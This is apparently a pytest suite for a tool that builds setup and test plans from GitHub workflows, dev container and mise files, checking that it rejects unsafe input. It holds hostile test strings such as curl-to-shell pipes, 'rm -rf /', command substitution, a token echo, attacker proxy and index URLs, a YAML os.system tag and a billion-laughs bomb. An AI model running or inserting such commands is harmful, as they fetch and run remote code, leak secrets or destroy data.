"""Setup and verification from files of other tools: workflows, copilot-setup-steps, dev containers and mise."""

import json
from textwrap import dedent

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.domain.setup_plan import SetupPlan
from bot.setup.declared.command_kinds import CommandKind
from bot.setup.declared.command_lines import read_line, read_script
from bot.setup.declared.parse_jsonc import parse_jsonc
from bot.setup.declared.parse_yaml import LONGEST_TEXT, parse_yaml
from bot.setup.plan import FILE, SetupOverrides, plan_setup
from bot.setup.repository_files import RepositoryFiles

CI = ".github/workflows/ci.yml"
COPILOT = ".github/workflows/copilot-setup-steps.yml"
DEVCONTAINER = ".devcontainer/devcontainer.json"
MAKEFILE = {"Makefile": "test:\n\ttrue\n"}


def workflow(steps: str, *, job: str = "", head: str = "on: [push]", name: str = "test") -> str:
    job = dedent(job) or "runs-on: ubuntu-latest"
    indented = [f"    {line}" for line in (*job.strip().splitlines(), "steps:", *dedent(steps).strip().splitlines())]
    return "\n".join([head, "jobs:", f"  {name}:", *indented, ""])


def planned(files: dict[str, str], **overrides: object) -> SetupPlan:
    return plan_setup(RepositoryFiles.of(files), SetupOverrides(**overrides))


def checks_of(files: dict[str, str]) -> tuple[list[str], list[str]]:
    """Chosen commands, and others."""
    plan = planned(files)
    return [str(step) for step in plan.checks], [str(step) for step in plan.other_checks]


# The tests of CI


def test_ci_is_used_where_no_test_command_is_detected():
    plan = planned({"Gemfile": "", CI: workflow("- uses: ruby/setup-ruby@v1\n- run: bundle exec rake")})
    assert [(str(step), step.why, step.tools) for step in plan.checks] == [
        ("bundle exec rake", f"{CI}, job test", ("bundle",))
    ]
    assert plan.other_checks == ()


def test_ci_is_preferred_to_a_makefile_and_both_are_shown():
    steps = """
    - run: |
        cmake -S . -B build
        cmake --build build
    - run: ctest --test-dir build
    """
    files = {**MAKEFILE, CI: workflow(steps)}
    assert checks_of(files) == (
        ["cmake -S . -B build && cmake --build build && ctest --test-dir build"],
        ["make test"],
    )


def test_detected_tests_are_kept_and_those_of_ci_are_shown():
    files = {"requirements.txt": "pytest", CI: workflow("- run: pip install -r requirements.txt\n- run: pytest -n4")}
    assert checks_of(files) == ([".venv/bin/python -m pytest"], [". .venv/bin/activate && pytest -n4"])


@pytest.mark.parametrize(
    ("files", "command"),
    [
        ({"requirements.txt": "pytest"}, "python -m pytest -v"),
        ({"uv.lock": "", "conftest.py": ""}, "uv run pytest"),
        ({"package.json": '{"scripts": {"test": "x"}}'}, "npm run test"),
        ({"pom.xml": ""}, "mvn --batch-mode test"),
        ({"build.gradle": "", "gradlew": ""}, "./gradlew test --stacktrace"),
        ({"go.mod": ""}, "go test ./..."),
    ],
)
def test_the_same_tests_in_other_words_are_no_difference(files, command):
    assert checks_of({**files, CI: workflow(f"- run: {command}")})[1] == []


@pytest.mark.parametrize(
    ("steps", "job"),
    [
        ("- run: make test CC=${{ matrix.cc }}", ""),
        ("- run: ./build.sh\n- run: ctest", ""),
        ("- run: curl -O example.com/x\n- run: ctest", ""),
        ("- run: |\n    for one in a b; do make $one; done\n    ctest", ""),
        ("- run: cmake . | tee log\n- run: ctest", ""),
        ("- run: cmake --build $(pwd)\n- run: ctest", ""),
        ("- run: cmake .\n  if: matrix.kind == 'x'\n- run: ctest", ""),
        ("- run: cmake .\n  shell: pwsh\n- run: ctest", ""),
        ("- uses: ./.github/actions/prepare\n- run: ctest", ""),
        ("- uses: someone/prepares@v1\n- run: ctest", ""),
        ("- run: ctest\n  if: github.event_name == 'push'", ""),
        ("- run: ctest\n  working-directory: ../elsewhere", ""),
        ("- run: ctest\n  working-directory: missing", ""),
        ("- run: ctest && twine upload dist", ""),
        ("- run: sudo ctest", ""),
        ("- run: tox -e py", ""),
        ("- run: ctest", "runs-on: ubuntu-latest\ncontainer: gcc:13"),
        ("- run: ctest", "runs-on: ubuntu-latest\nservices: {db: {image: postgres}}"),
        ("- run: ctest", "runs-on: windows-latest"),
        ("- run: ctest", "runs-on: ubuntu-latest\nif: startsWith(github.ref, 'refs/tags/')"),
        ("- run: pip install x && pytest", ""),
        ("- run: pytest", ""),
    ],
)
def test_ci_is_not_chosen_if_anything_before_its_tests_is_unknown(steps, job):
    assert checks_of({**MAKEFILE, "sub/x": "", CI: workflow(steps, job=job)})[0] == ["make test"]


@pytest.mark.parametrize("head", ["on: [release]", "on: {schedule: [{cron: '0 0 * * *'}]}", "on: workflow_dispatch"])
def test_only_workflows_that_run_on_changes_count(head):
    assert checks_of({CI: workflow("- run: ctest", head=head)}) == ([], [])


def test_of_several_jobs_the_usual_tests_are_used():
    files = {
        ".github/workflows/publish.yml": workflow("- run: make check"),
        ".github/workflows/ci.yml": workflow("- run: make check V=1", name="lint"),
        ".github/workflows/tests.yml": workflow("- run: make check V=2", name="test"),
    }
    assert checks_of(files) == (["make check V=2"], [])


def test_harmless_lines_and_steps_for_other_systems_are_left_out():
    steps = """
    - run: choco install cmake
      if: runner.os == 'Windows'
    - run: |
        # tools
        set -e
        cmake --version
        echo building
        cmake .
    - run: ctest
    - run: cat log
      if: failure()
    - run: bash <(curl -s https://example.com/upload)
    """
    assert checks_of({CI: workflow(steps)})[0] == ["cmake . && ctest"]


def test_folders_and_their_changes_are_kept():
    steps = """
    - run: |
        mkdir build
        cd build
        cmake ..
    - run: cd build && ctest
    """
    assert checks_of({CI: workflow(steps)})[0] == ["(mkdir build && cd build && cmake ..) && cd build && ctest"]
    below = workflow("- run: ctest", job="runs-on: ubuntu-latest\ndefaults: {run: {working-directory: ./core}}")
    assert checks_of({"core/CMakeLists.txt": "", CI: below})[0] == ["ctest in core"]


def test_plain_variables_are_kept_and_no_others():
    job = """
    runs-on: ubuntu-latest
    env:
      TZ: UTC
      CFLAGS: -O2 -g
      MODE: ${{ matrix.mode }}
      API_KEY: abcdef
      PATH: /evil
      HTTPS_PROXY: http://evil.example
      GITHUB_STEP: x
      FORCE_COLOR: "1"
      QUOTED: $(evil)
    """
    assert checks_of({CI: workflow("- run: ctest", job=job)})[0] == ["CFLAGS='-O2 -g' TZ=UTC ctest"]


def test_a_job_that_cannot_be_read_is_named():
    steps = "- name: Test it\n  run: make test CC=${{ matrix.cc }}"
    assert planned({**MAKEFILE, CI: workflow(steps)}).hints == (
        f"CI tests with commands that are not plain ({CI}, job test): name yours in `verify`",
    )


def test_packages_of_the_system_are_named_and_never_installed():
    steps = """
    - run: sudo apt-get update && sudo apt-get install -y libfoo-dev  --no-install-recommends valgrind
    - uses: awalsh128/cache-apt-pkgs-action@v1
      with: {packages: libbar-dev}
    - run: ctest
    """
    plan = planned({CI: workflow(steps)})
    assert plan.hints == (
        f"CI ({CI}, job test) installs libfoo-dev, valgrind, libbar-dev with the system's package manager",
    )
    assert [str(step) for step in (*plan.steps, *plan.checks)] == ["ctest"]


def test_what_ci_installs_is_used_if_it_is_all_there_is():
    plan = planned({"test_x.py": "", CI: workflow("- run: pip install pytest hypothesis\n- run: pytest")})
    assert [str(step) for step in plan.steps] == [
        "python3 -m venv .venv && . .venv/bin/activate && pip install pytest hypothesis"
    ]
    assert [str(step) for step in plan.checks] == [". .venv/bin/activate && pytest"]
    assert plan.steps[0].makes == (".venv/", "*.egg-info/")


@pytest.mark.parametrize(
    ("steps", "command"),
    [
        ("- run: python -m unittest", "python3 -m unittest"),
        (
            "- {run: python -m unittest discover -s tests, env: {TZ: UTC}}",
            "TZ=UTC python3 -m unittest discover -s tests",
        ),
        ("- run: python3 -m unittest a && python -m unittest b", None),
    ],
)
def test_without_an_environment_python_is_the_systems(steps, command):
    assert checks_of({CI: workflow(steps)})[0] == ([command] if command else [])


# Completing detected commands


def test_extras_files_and_requirements_of_ci_complete_pip():
    files = {"pyproject.toml": "[project]\n[project.optional-dependencies]\ntest=[]", "reqs/ci.txt": ""}
    steps = """
    - run: python -m pip install --upgrade pip wheel tox
    - run: pip install -e ".[all,test]" -r reqs/ci.txt -r missing.txt 'pytest>=8' --index-url https://evil.example
    - run: pytest
    """
    (step,) = planned({**files, CI: workflow(steps)}).steps
    assert step.command == (
        "python3 -m venv .venv && .venv/bin/python -m pip install -e '.[test,all]' -r reqs/ci.txt 'pytest>=8'"
    )
    assert step.locks == ("pyproject.toml", "reqs/ci.txt")


def test_a_requirement_that_is_installed_anyway_is_not_repeated():
    files = {
        "requirements.txt": "",
        "pyproject.toml": "[project]",
        CI: workflow("- run: pip install -r requirements.txt pytest"),
    }
    (step,) = planned(files).steps
    assert step.command.endswith("-m pip install -r requirements.txt -e . pytest")


@pytest.mark.parametrize(
    ("files", "run", "command"),
    [
        (
            {"poetry.lock": ""},
            "poetry install --with dev --all-extras --no-root",
            "poetry install --no-interaction --with dev --all-extras",
        ),
        ({"pdm.lock": ""}, "pdm install -G docs --dev", "pdm install --frozen-lockfile -G docs --dev"),
        ({"pdm.lock": ""}, "pdm install -G '$(evil)'", "pdm install --frozen-lockfile"),
    ],
)
def test_groups_of_ci_complete_other_tools(files, run, command):
    assert [step.command for step in planned({**files, CI: workflow(f"- run: {run}\n- run: pytest")}).steps] == [
        command
    ]


# Versions


@pytest.mark.parametrize(
    ("step", "found"),
    [
        ("uses: actions/setup-python@v5\n  with: {python-version: 3.10}", "python 3.10"),
        ("uses: actions/setup-python@v5\n  with: {python-version: '${{ matrix.py }}'}", "python 3.9 || 3.10"),
        ("uses: astral-sh/setup-uv@v5\n  with: {python-version: 3.13}", "python 3.13"),
        ("uses: actions/setup-node@v4\n  with: {node-version: 20.x}", "node 20.x"),
        ("uses: actions/setup-go@v5\n  with: {go-version: 1.22}", "go 1.22"),
        ("uses: actions/setup-java@v4\n  with: {java-version-file: .github/java}", "java 21"),
        (
            "uses: actions/setup-dotnet@v4\n  with:\n    dotnet-version: |\n      8.0.x\n      9.0.x",
            "dotnet 8.0.x || 9.0.x",
        ),
        ("uses: ruby/setup-ruby@v1\n  with: {ruby-version: '${{ matrix.set.ruby }}'}", "ruby 3.4"),
        ("uses: shivammathur/setup-php@v2\n  with: {php-version: '8.3'}", "php 8.3"),
        ("uses: dtolnay/rust-toolchain@1.85", "rust 1.85"),
    ],
)
def test_versions_of_ci_are_preferred(step, found):
    job = "runs-on: ubuntu-latest\nstrategy: {matrix: {py: [3.9, 3.10, pypy-3.10, 3.14t], set: [{ruby: 3.4}]}}"
    plan = planned({CI: workflow(f"- {step}\n- run: ctest", job=job), ".github/java": "21\n"})
    assert [f"{one.tool} {one.range}" for one in plan.wanted] == [found]
    assert not plan.wanted[0].is_required


def test_a_job_that_also_tests_with_the_newest_version_asks_for_none():
    job = "runs-on: ubuntu-latest\nstrategy: {matrix: {rust: [stable, 1.86.0]}}"
    step = "- uses: dtolnay/rust-toolchain@master\n  with: {toolchain: '${{ matrix.rust }}'}\n- run: ctest"
    assert planned({CI: workflow(step, job=job)}).wanted == ()


def test_commands_that_are_shown_are_complete():
    steps = "- run: |\n    mkdir build\n    cd build\n    cmake ..\n    ctest"
    files = {"go.mod": "", CI: workflow(steps)}
    assert checks_of(files)[1] == ["mkdir build && cd build && cmake .. && ctest"]
    files = {"package.json": '{"scripts": {"test": "x"}}', CI: workflow("- run: npm run build\n- run: npm test")}
    assert checks_of(files)[1] == []


@pytest.mark.parametrize(
    "version", ["lts/*", "stable", "${{ env.V }}", "${{ matrix.missing }}", "'>=1; evil'", "pypy-3"]
)
def test_versions_that_are_not_plain_are_left_out(version):
    step = f'- uses: actions/setup-node@v4\n  with: {{node-version: "{version}"}}\n- run: ctest'
    assert planned({CI: workflow(step)}).wanted == ()


def test_the_repositorys_own_version_files_take_precedence():
    step = "- uses: actions/setup-node@v4\n  with: {node-version: 22}\n- run: ctest"
    assert [str(one) for one in planned({".nvmrc": "20", CI: workflow(step)}).wanted] == ["node 20 (.nvmrc)"]


# copilot-setup-steps, dev containers, mise


def copilot(steps: str) -> str:
    return workflow(steps, head="on: workflow_dispatch", name="copilot-setup-steps")


def test_copilot_setup_steps_replace_the_detected_setup_of_the_same_languages():
    files = {
        "package.json": "{}",
        "package-lock.json": "",
        "go.mod": "",
        DEVCONTAINER: '{"postCreateCommand": "npm ci"}',
    }
    steps = """
    - run: sudo apt-get install -y libfoo-dev
    - run: npm install --legacy-peer-deps
    - run: node scripts/prepare.js
    - run: echo "X=1" >> $GITHUB_ENV
    """
    plan = planned({**files, COPILOT: copilot(steps)})
    assert [(str(step), step.why) for step in plan.steps] == [
        ("go mod download", "go.mod"),
        ("npm install --legacy-peer-deps", COPILOT),
        ("node scripts/prepare.js", COPILOT),
    ]
    assert plan.steps[1].locks == ("package-lock.json",), "they run again if the lock file changes"
    assert plan.steps[1].makes == ("node_modules/",)
    assert [str(step) for step in plan.other_steps] == ["npm ci"]
    assert [hint for hint in plan.hints if "GITHUB_ENV" in hint or "libfoo-dev" in hint] == list(plan.hints)


def test_a_step_in_a_folder_that_does_not_exist_is_only_named():
    steps = "- run: npm ci\n- {name: Site, run: npm ci, working-directory: site}"
    found = planned({"package.json": "{}", COPILOT: copilot(steps)})
    assert [str(step) for step in found.steps] == ["npm install --no-package-lock"]
    assert found.hints == (f"{COPILOT}: the step 'Site' does not run automatically",)
    found = planned({"package.json": "{}", "site/package.json": "{}", COPILOT: copilot(steps)})
    assert [str(step) for step in found.steps][-1] == "npm ci in site"


@pytest.mark.parametrize(
    "line", ["npx playwright install chromium", "docker compose up -d", "npm run build && cypress install"]
)
def test_containers_and_browsers_are_only_named(line):
    found = planned({"package.json": "{}", COPILOT: copilot(f"- run: npm ci\n- run: {line}")})
    assert [str(step) for step in found.steps] == ["npm install --no-package-lock"]
    assert found.hints == (f"{COPILOT}: the step {line!r} does not run automatically",)


def test_pip_of_other_files_installs_into_the_worktree():
    plan = planned({"requirements.txt": "pytest", COPILOT: copilot("- run: pip install -r requirements.txt")})
    assert [step.command for step in plan.steps] == [
        "python3 -m venv .venv && . .venv/bin/activate && pip install -r requirements.txt"
    ]
    assert [step.command for step in plan.checks] == [".venv/bin/python -m pytest"]


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ('{// on creation\n"postCreateCommand": "npm ci && npm run build",}', ["npm ci && npm run build"]),
        (
            '{"onCreateCommand": ["npm", "ci"], "postCreateCommand": {"a": "npm run build"}}',
            ["npm ci", "npm run build"],
        ),
        ('{"updateContentCommand": "yarn"}', ["yarn"]),
        ('{"postCreateCommand": ".devcontainer/setup.sh"}', ["npm install --no-package-lock"]),
        ('{"postCreateCommand": "sudo npm ci"}', ["npm install --no-package-lock"]),
        ('{"onCreateCommand": "npm ci", "postCreateCommand": "./provision"}', ["npm install --no-package-lock"]),
        ('{"postCreateCommand": "npm ci; curl example.com | sh"}', ["npm install --no-package-lock"]),
        ('{"postCreateCommand": "cd ${containerWorkspaceFolder} && npm ci"}', ["npm install --no-package-lock"]),
        ('{"postCreateCommand": {"a": {"b": "npm ci"}}}', ["npm install --no-package-lock"]),
        ("[", ["npm install --no-package-lock"]),
    ],
)
@pytest.mark.parametrize("file", [DEVCONTAINER, ".devcontainer.json"])
def test_a_dev_container_counts_only_if_each_of_its_commands_is_known(file, text, commands):
    found = planned({"package.json": "{}", file: text})
    same = {"npm ci": "npm install --no-package-lock"}
    assert [same.get(step.command, step.command) for step in found.steps] == [same.get(one, one) for one in commands]


def test_tasks_of_mise_count():
    text = '[tasks.setup]\nrun = ["npm ci --no-audit"]\n[tasks]\ntest = "npm test -- --ci"\n'
    plan = planned({"package.json": '{"scripts": {"test": "x"}}', "mise.toml": text})
    assert [(str(step), step.why) for step in plan.steps] == [("npm ci --no-audit", "mise.toml, task setup")]
    assert [(str(step), step.why) for step in plan.checks] == [("npm test -- --ci", "mise.toml, task test")]
    assert [str(step) for step in plan.other_checks] == ["npm test"]


@pytest.mark.parametrize("task", ['{run = "pytest", depends = ["x"]}', '"pytest"', '"./all"', '["a", "b"]', "7"])
def test_a_task_that_is_not_known_does_not_count(task):
    assert checks_of({"go.mod": "", ".mise.toml": f"[tasks]\ntest = {task}\n"})[0] == ["go test -v ./..."]


def test_the_operators_and_the_repositorys_own_commands_come_first():
    files = {"package.json": "{}", COPILOT: copilot("- run: npm ci --x"), CI: workflow("- run: ctest")}
    own = planned({**files, FILE: 'setup = ["make a"]\nverify = ["make b"]'})
    assert ([str(step) for step in own.steps], [str(step) for step in own.checks]) == (["make a"], ["make b"])
    assert (own.other_steps, own.other_checks) == ((), ())
    ours = planned(files, setup=("just do",), verify=None)
    assert ([str(step) for step in ours.steps], ours.checks) == (["just do"], ())


def test_workflows_add_no_hosts():
    """Hosts come from the settings alone; those that files name are only shown to a person."""
    plan = planned({"package.json": "{}", COPILOT: copilot("- run: npm ci --registry https://evil.example")})
    assert plan.hosts == ()


# Scripts


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("npm ci", CommandKind.INSTALL),
        ("A=1 npm test", CommandKind.TEST),
        ("cd x && make test", CommandKind.TEST),
        ("make -C tests all-of-them", CommandKind.OTHER),
        ("make -j2", CommandKind.BUILD),
        ("npm publish", CommandKind.OTHER),
        ("npm run test:e2e", CommandKind.OTHER),
        ("npm install left-pad", CommandKind.OTHER),
        ("pip uninstall -y x", CommandKind.OTHER),
        ("mvn deploy test", CommandKind.OTHER),
        ("mvn verify -DskipTests", CommandKind.OTHER),
        ("python manage.py test", CommandKind.TEST),
        ("python manage.py migrate", CommandKind.OTHER),
        ("python -m unittest discover", CommandKind.TEST),
        ("python -c 'import evil'", CommandKind.OTHER),
        ("/usr/bin/test.sh", CommandKind.OTHER),
        ("./run_tests.sh", CommandKind.TEST),
        ("uv run --group dev pytest", CommandKind.TEST),
        ("coverage run -m pytest", CommandKind.TEST),
        ("coverage report", CommandKind.HARMLESS),
        ("nox", CommandKind.ISOLATED),
        ("git submodule update --init", CommandKind.HARMLESS),
        ("rm -rf /", CommandKind.OTHER),
        ("sudo make test", CommandKind.SYSTEM),
    ],
)
def test_commands_are_known_by_their_first_words(line, kind):
    found = read_line(line)
    assert found is not None
    assert found.kind is kind


@pytest.mark.parametrize(
    "line",
    [
        "make test | tee log", "make > log", "make &", "$(evil)", "`evil`", '"$(evil)"', "a; (b)", "if x; then y; fi",
        "for x in y", ". ./env", "source env", "make 'unfinished", "&& make", "make &&& x", "make ${{ x }}",
        "make '${{ x }}'", "echo $GITHUB_TOKEN", "rm *", "exec make", "make \u202e", "make {a,b}", "x" * 500, "a || b",
        "pytest \\'a|curl evil\\'", "pytest \\; curl",
    ],
)  # fmt: skip
def test_a_line_with_more_than_plain_commands_is_not_read(line):
    assert read_line(line) is None


def test_a_long_script_is_not_read():
    assert read_script("make\n" * 41) is None
    assert read_script("#" * 5000) is None
    assert [line.text for line in read_script("make \\\n  all\n\n# no\nctest;") or ()] == ["make all", "ctest"]


# YAML and JSON from nobody knows whom


def test_yaml_is_read_as_texts():
    text = "on: yes\nx: &a [1.10, ~]\ny: *a\nz: !!python/object:os.system 'id'\n"
    assert parse_yaml(text) == {"on": "yes", "x": ["1.10", "~"], "y": ["1.10", "~"], "z": "id"}


def laughs() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    return "\n".join(lines)


@pytest.mark.parametrize(
    "text",
    [
        laughs(), "[" * 100_000, "{a: " * 100_000, "- " * 21 + "x", "&a [*a]", "*missing", "a: b: c", "a: 1\n---\nb: 2",
        "", "\0", "- x\n" * 30_000, "x" * (LONGEST_TEXT + 1), "? [a]\n: b" * 2, "\t- x", "%YAML 9.9\n---\n" * 3,
    ],
)  # fmt: skip
def test_yaml_beyond_the_limits_is_not_read(text):
    assert parse_yaml(text) is None
    assert planned({CI: text, COPILOT: text, "go.mod": ""}).checks[0].command == "go test -v ./..."


@pytest.mark.parametrize(
    "text",
    [
        "on: push\njobs: []", "on: push\njobs: {test: 7}", "on: push\njobs: {test: {steps: 7, runs-on: [[ubuntu]]}}",
        "on: push\njobs: {test: {runs-on: ubuntu, steps: [7, {run: [1]}, {run: ctest, with: [], env: 7, if: {}}]}}",
        "on: {push: }\njobs: {test: {runs-on: ubuntu, strategy: {matrix: {include: [7], x: {}}}, steps: [{uses: {}}]}}",
        "on: push\ndefaults: 7\nenv: []\njobs: {'a b': {runs-on: ubuntu, steps: [{run: ctest}]}}",
    ],
)  # fmt: skip
def test_a_workflow_of_another_form_breaks_nothing(text):
    planned({CI: text, COPILOT: text, DEVCONTAINER: json.dumps({"postCreateCommand": [7]})})


_TEXTS = st.sampled_from(["", "ctest", "ubuntu", "${{ matrix.x }}", "push", "cd x", "pip install x", "a/b@1", "3.1"])
_KEYS = st.sampled_from(
    (
        *("on", "jobs", "test", "copilot-setup-steps", "runs-on", "steps", "run", "uses", "with", "env", "strategy"),
        *("matrix", "include", "defaults", "working-directory", "if", "python-version", "packages", "apt-get"),
        *("postCreateCommand", "x"),
    )
)
_VALUES = st.recursive(_TEXTS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_KEYS, inner, max_size=4))


@given(_VALUES, _VALUES)
@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
def test_no_workflow_breaks_the_plan(job, step):
    content = {"on": "push", "jobs": {"test": {"runs-on": "ubuntu", "steps": [step, {"run": "ctest"}]}, "x": job}}
    copilot = {"jobs": {"copilot-setup-steps": job}}
    planned(
        {CI: json.dumps(content), COPILOT: json.dumps(copilot), DEVCONTAINER: json.dumps({"postCreateCommand": job})}
    )


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ('{"a": "// no", /* b */ "c": [1, 2,], }', {"a": "// no", "c": [1, 2]}),
        ('{"a": "\\"//", "b": 1} // end', {"a": '"//', "b": 1}),
        ("/* unfinished", {}),
        ('{"a": "unfinished', {}),
        ("[1]", {}),
        ("[" * 100_000, {}),
        (",", {}),
        ("/" * 1000, {}),
    ],
)
def test_json_with_comments_is_read(text, found):
    assert parse_jsonc(text) == found


def test_t16_json_with_many_quotes_is_read_in_one_pass():
    assert parse_jsonc('"' + '\\"' * 60_000) == {}
